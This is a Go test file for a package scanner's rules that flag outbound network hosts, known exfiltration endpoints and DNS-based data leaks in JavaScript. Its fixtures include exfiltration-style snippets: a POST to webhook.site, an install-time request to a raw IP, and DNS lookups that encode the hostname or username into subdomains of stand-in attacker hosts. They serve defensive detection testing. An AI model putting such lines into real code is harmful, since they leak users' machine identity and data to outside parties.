package rules

import "testing"

func TestNetworkHost(t *testing.T) {
	runCases(t, NetworkHost, []ruleCase{
		{"fetch host", one("a.js", `fetch('https://api.vendor.io/v1/ping')`), Low, "host api.vendor.io"},
		{"https.get ip", one("a.js", `require('https').get('https://45.9.148.3/x')`), Medium, "raw IP address 45.9.148.3"},
		{"ip at install", installPkg(`const h = require('http'); h.request('http://45.9.148.3:8080/c')`), High, "45.9.148.3"},
		{"websocket", one("a.js", `new WebSocket('wss://relay.vendor.io/s')`), Low, "WebSocket"},
		{"net connect", one("a.js", `require('net').connect('203.0.113.7:4444')`), Medium, "203.0.113.7"},
		{"localhost", one("a.js", `fetch('http://localhost:3000/api'); fetch('http://127.0.0.1/')`), "", ""},
		{"private ip", one("a.js", `require('http').get('http://10.0.0.2/')`), "", ""},
		{"relative url", one("a.js", `fetch('/api/users')`), "", ""},
		{"computed url", one("a.js", `fetch(base + '/x')`), "", ""},
		{"websocket call without new", one("a.js", `WebSocket('wss://x.vendor.io')`), "", ""},
	})
}

func TestExfilEndpoint(t *testing.T) {
	runCases(t, ExfilEndpoint, []ruleCase{
		{"webhook.site", one("a.js", `fetch('https://webhook.site/0000-1111', {method: 'POST'})`), High, "webhook.site"},
		{"discord webhook", one("a.js", `const u = "https://discord.com/api/webhooks/123/abc"`), High, "discord.com/api/webhooks"},
		{"telegram template", one("a.js", "const u = `https://api.telegram.org/bot${t}/sendMessage`"), High, "api.telegram.org/bot"},
		{"oast", one("a.js", `const d = 'http://abc.oast.fun/x'`), High, ".oast.fun"},
		{"public suffix list entries", one("a.js", `module.exports = ['ngrok.io', 'ap.ngrok.io', 'ngrok-free.app', 'm.pipedream.net']`), "", ""},
		{"interactsh", one("a.js", `const d = 'x.interact.sh'`), High, "interact.sh"},
		{"ngrok", one("a.js", `const d = 'https://a1b2.ngrok-free.app/c'`), High, "ngrok-free.app"},
		{"pipedream", one("a.js", `const d = 'https://eo1x.m.pipedream.net'`), High, "pipedream.net"},
		{"concatenated", one("a.js", `const d = 'https://webhook' + '.site/x'`), High, "webhook.site"},
		{"pastebin raw", one("a.js", `fetch('https://pastebin.com/raw/abc')`), High, "pastebin.com/raw"},
		{"discord api, not webhooks", one("a.js", `const api = 'https://discord.com/api/v10'`), "", ""},
		{"pastebin page", one("a.js", `const see = 'https://pastebin.com/'`), "", ""},
		{"ordinary", one("a.js", `fetch('https://registry.npmjs.org/x')`), "", ""},
	})
}

func TestDNSExfil(t *testing.T) {
	runCases(t, DNSExfil, []ruleCase{
		{"hostname label", one("a.js", `const dns = require('dns'), os = require('os');
dns.lookup(os.hostname() + '.c1.oast.example', () => {})`), High, "os.hostname"},
		{"userInfo via variable", one("a.js", `const {resolve4} = require('node:dns'); const os = require('node:os');
const u = os.userInfo().username; resolve4(u + '.d.attacker.invalid', () => {})`), High, "os.userInfo"},
		{"mailer", one("a.js", `const dns = require('dns'), os = require('os');
const name = os.hostname(); dns.resolveMx(domain, cb)`), "", ""},
		{"constant lookup", one("a.js", `const dns = require('dns'), os = require('os');
os.hostname(); dns.lookup('registry.npmjs.org', cb); const s = '.x.y'`), "", ""},
		{"no identity", one("a.js", `require('dns').lookup(host + '.svc.cluster.local', cb)`), "", ""},
	})
}
